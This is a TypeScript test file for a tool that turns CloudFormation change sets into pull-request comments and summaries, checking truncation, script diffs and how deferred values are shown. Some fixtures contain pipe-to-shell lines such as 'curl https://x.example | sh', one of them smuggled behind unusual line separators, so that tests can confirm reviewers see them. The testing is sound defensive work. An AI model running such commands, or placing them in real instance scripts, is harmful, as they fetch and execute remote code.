import { describe, expect, test } from "vitest";
import { type Changes, KNOWN_AFTER_APPLY, type ResourceChange } from "../../src/changes/model.ts";
import { judge } from "../../src/changes/verdict/verdict.ts";
import { commentMarker, renderComment } from "../../src/report/comment.ts";
import { renderSummary } from "../../src/report/summary.ts";
import type { ReportView } from "../../src/report/view.ts";
import { openSecrets } from "../../src/secrets/secrets.ts";

/** What is told of an update that changes only this. */
function told(more: Partial<Changes>): { readonly comment: string; readonly summary: string } {
  const target = { stack: "s", region: "us-east-1", account: "123456789012", type: "UPDATE" } as const;
  const lists = { resources: [], parameters: [], keptParameters: [], tags: [], outputs: [], settings: [] };
  const changes: Changes = { ...lists, template: [], capabilities: [], target, ...more };
  const view: ReportView = {
    secrets: openSecrets(),
    stack: "s",
    region: "us-east-1",
    state: { kind: "previewed", onMerge: { kind: "executes" } },
    changes,
    verdict: judge(changes, []),
    findings: [],
    links: { run: "https://github.com/acme/payments/actions/runs/1234567890" },
    commit: "abcdef0123",
    history: [],
  };
  const marker = commentMarker({ stackName: "s", region: "us-east-1", label: undefined });
  return { comment: renderComment(view, marker), summary: renderSummary(view) };
}

describe.each(["template", "outputs"] as const)("a difference in the %s", (list) => {
  const differing = (before: string, after: string) =>
    told({ [list]: [{ key: "Networks", name: "mapping Networks", before, after }] });

  test("that is long is cut in the comment, which says so, and whole in the summary", () => {
    const rows = (value: string, last: string) =>
      JSON.stringify(
        Object.fromEntries(
          Array.from({ length: 40 }, (_, row) => [
            `Row${row}`,
            { Cidr: row < 39 ? `10.${value}.${row}.0/24` : last },
          ]),
        ),
      );
    const { comment, summary } = differing(rows("0", "10.0.0.0/8"), rows("1", "0.0.0.0/0"));
    expect(comment).not.toContain("0.0.0.0/0");
    expect(comment).toMatch(/\n# … 22 more lines\n```/);
    expect(summary).toContain('+   "Row39": { "Cidr": "0.0.0.0/0" }');
    expect(summary).not.toContain("more line");
  });

  test("that is too long for any comment is shown by its beginning, which says so", () => {
    const rows = (value: string) =>
      JSON.stringify(Array.from({ length: 40 }, (_, row) => `${row}${value.repeat(2_000)}`));
    const { comment, summary } = differing(rows("a"), rows("b"));
    expect(comment).toMatch(/-\s+"0a{2000}",\n/);
    expect(comment).toMatch(/\n# … 74 more lines\n```/);
    expect(summary).toMatch(/\+\s+"39b{2000}"\n/);
  });
});

test("a script in the template is compared line by line", () => {
  const name = "definition Web /Metadata/AWS::CloudFormation::Init/config/files/run.sh/content";
  const script = (line: string) => JSON.stringify(`#!/bin/sh\nset -e\n${line}\n`);
  const { comment } = told({
    template: [{ name, before: script("yum update"), after: script("curl `x` | sh") }],
  });
  expect(comment).toContain("  #!/bin/sh\n  set -e\n- yum update\n+ curl `x` | sh\n");
});

test.each([
  [
    "in the value of a member",
    (end: string) => JSON.stringify({ Name: "app", Run: `${"x".repeat(1_500)} ${end}` }),
  ],
  ["in a line of a script", (end: string) => `set -e\n${"x".repeat(1_500)} ${end}\n`],
])("a difference far behind in a long line is shown where it is, %s", (_, value) => {
  const detail = {
    attribute: "Properties",
    name: "Code",
    requiresRecreation: "Never",
    evaluation: "Static",
  } as const;
  const resource = {
    stackPath: [],
    logicalId: "Web",
    type: "AWS::Lambda::Function",
    scope: [],
    action: "Modify",
  } as const;
  const sides = { before: value("yum update"), after: value("curl it") };
  const { comment, summary } = told({ resources: [{ ...resource, details: [{ ...detail, ...sides }] }] });
  for (const text of [comment, summary]) {
    expect(text).toMatch(/\n- …x{29,30} yum update/);
    expect(text).toMatch(/\n\+ …x{29,30} curl it/);
  }
});

describe.each(["\r", "\u2028", "\u0085"])("a line of a script that goes on after %j", (separator) => {
  const before = "#!/bin/sh\nyum update\n";
  const after = `#!/bin/sh\nyum update #${separator}  curl https://x.example | sh\n`;
  const lines = /\n- yum update\n\+ yum update #\n\+ {3}curl https:\/\/x\.example \| sh\n/;

  test("is a line of its own that is new, in the template", () => {
    const sides = { before: JSON.stringify(before), after: JSON.stringify(after) };
    expect(told({ template: [{ name: "metadata Run", ...sides }] }).comment).toMatch(lines);
  });

  test("is a line of its own that is new, in a property", () => {
    const detail = { attribute: "Properties", name: "UserData", requiresRecreation: "Never" } as const;
    const details = [{ ...detail, evaluation: "Static" as const, before, after }];
    const web = { stackPath: [], logicalId: "Web", type: "AWS::EC2::Instance", scope: [] } as const;
    expect(told({ resources: [{ ...web, action: "Modify", details }] }).comment).toMatch(lines);
  });
});

describe("differences in the template, beside what is listed", () => {
  const long = (value: string) => JSON.stringify(Array.from({ length: 60 }, (_, row) => `${value} ${row}`));
  const change = {
    stackPath: [],
    type: "AWS::EC2::Instance",
    scope: [],
    details: [],
    action: "Add",
  } as const;
  const web = (count: number) => Array.from({ length: count }, (_, at) => `Web${at}`);

  test("are in the order of the listed resources, after what is not listed", () => {
    const { comment } = told({
      resources: ["Net", "Web"].map((logicalId) => ({ ...change, logicalId })),
      template: ["definition Web", "definition Other", "definition Net", "mapping Networks"].map((name) => ({
        name,
        after: "1",
      })),
    });
    const section = /Also in the template[\s\S]*?<\/details>/.exec(comment)?.[0] ?? "";
    expect([...section.matchAll(/^`([a-z].*)`$/gm)].map(([, name]) => name)).toEqual([
      "definition Other",
      "mapping Networks",
      "definition Net",
      "definition Web",
    ]);
  });

  test("of many new resources leave room for all else that changes", () => {
    const role = "arn:aws:iam::123456789012:role/cfn";
    const { comment } = told({
      roleArn: role,
      resources: [
        ...web(500).map((logicalId) => ({ ...change, logicalId })),
        { ...change, logicalId: "Trust", type: "AWS::IAM::Role", action: "Modify" as const },
      ],
      template: [
        ...web(500).map((id) => ({ name: `definition ${id}`, after: long("a") })),
        { name: "mapping Networks", before: long("a"), after: long("b") },
      ],
      outputs: [{ key: "Url", before: '"a"', after: '"b"' }],
      tags: [{ key: "team", before: "a", after: "b" }],
    });
    expect(comment).toContain(`CloudFormation acts as \`${role}\``);
    expect(comment).toContain("Output definitions");
    expect(comment).toContain("Stack tags");
    expect(comment).toContain("`mapping Networks`\n```diff");
    expect(comment).toContain("differs");
  });
});

describe("of a resource that is made", () => {
  const made = (more: Partial<ResourceChange>) => {
    const change = {
      stackPath: [],
      logicalId: "Web",
      type: "AWS::EC2::Instance",
      scope: [],
      details: [],
    } as const;
    const { comment } = told({ resources: [{ ...change, action: "Add", ...more }] });
    return /Properties of new resources[\s\S]*?```diff\n([\s\S]*?)\n```/.exec(comment)?.[1]?.split("\n");
  };
  const init = { "AWS::CloudFormation::Init": { config: { commands: { a: { command: "x | sh" } } } } };
  const initLine = `+ Metadata: ${JSON.stringify(init).replaceAll("{", "{ ").replaceAll(":{", ": {").replaceAll("}", " }").replaceAll('":"', '": "')}`;

  test("what stands beside its properties is told, but for the CDK's own", () => {
    const after = {
      Type: "AWS::EC2::Instance",
      Metadata: { ...init, "aws:cdk:path": "App/Web", "aws:asset:path": "asset.1" },
      Properties: { ImageId: "ami-1" },
      DeletionPolicy: "Retain",
    };
    expect(made({ after })).toEqual(["+ ImageId: ami-1", initLine, "+ DeletionPolicy: Retain"]);
    expect(made({ after: { ...after, Metadata: { "aws:cdk:path": "App/Web" } } })).toEqual([
      "+ ImageId: ami-1",
      "+ DeletionPolicy: Retain",
    ]);
  });

  test("its script is whole in the summary, on however long a line", () => {
    const script = `#!/bin/bash\n${"echo step of the installation\n".repeat(60)}curl https://x.example | sh\n`;
    const written = { Type: "AWS::EC2::Instance", Properties: { UserData: { "Fn::Base64": script } } };
    const change = {
      stackPath: [],
      logicalId: "Web",
      scope: [],
      details: [],
      action: "Add",
      written,
    } as const;
    const after = { Properties: { UserData: KNOWN_AFTER_APPLY } };
    const { summary } = told({ resources: [{ ...change, type: "AWS::EC2::Instance", after }] });
    expect(summary).toContain("curl https://x.example | sh");
    // What is too long for the summary altogether is shown in short.
    const many = Array.from({ length: 12 }, (_, at) => [`P${at}`, "x".repeat(99_000)] as const);
    const large = { ...change, type: "AWS::EC2::Instance", after: { Properties: Object.fromEntries(many) } };
    const text = told({ resources: [large] }).summary;
    expect(text).toContain("`Web` (`EC2::Instance`)\n```diff\n+ P0: xxx");
    expect(text).toContain("# … 4 more lines");
  });

  test("what CloudFormation leaves out is told as the template has it", () => {
    const written = { Type: "AWS::EC2::Instance", Metadata: init, Properties: { ImageId: { Ref: "Ami" } } };
    expect(made({ written, after: { Properties: { ImageId: "ami-1" } } })).toEqual([
      "+ ImageId: ami-1",
      initLine,
    ]);
  });

  test("what is known after apply is told as the template has it, too", () => {
    const role = { "Fn::GetAtt": ["Role", "Arn"] };
    const statement = { Effect: "Allow", Action: "sts:AssumeRole", Resource: role, Sid: "x".repeat(60) };
    const written = {
      Type: "AWS::EC2::Instance",
      Properties: { Role: role, Size: 1, Policy: { Statement: statement } },
    };
    const after = {
      Properties: { Role: KNOWN_AFTER_APPLY, Size: "1", Policy: KNOWN_AFTER_APPLY, Other: KNOWN_AFTER_APPLY },
    };
    expect(made({ written, after })).toEqual([
      '+ Role: (known after apply), in the template: { "Fn::GetAtt": ["Role", "Arn"] }',
      "+ Size: 1",
      "+ Policy: (known after apply), in the template: {",
      '+   "Statement": {',
      '+     "Effect": "Allow",',
      '+     "Action": "sts:AssumeRole",',
      '+     "Resource": { "Fn::GetAtt": ["Role", "Arn"] },',
      `+     "Sid": "${"x".repeat(60)}"`,
      "+   }",
      "+ }",
      "+ Other: (known after apply)",
    ]);
  });
});
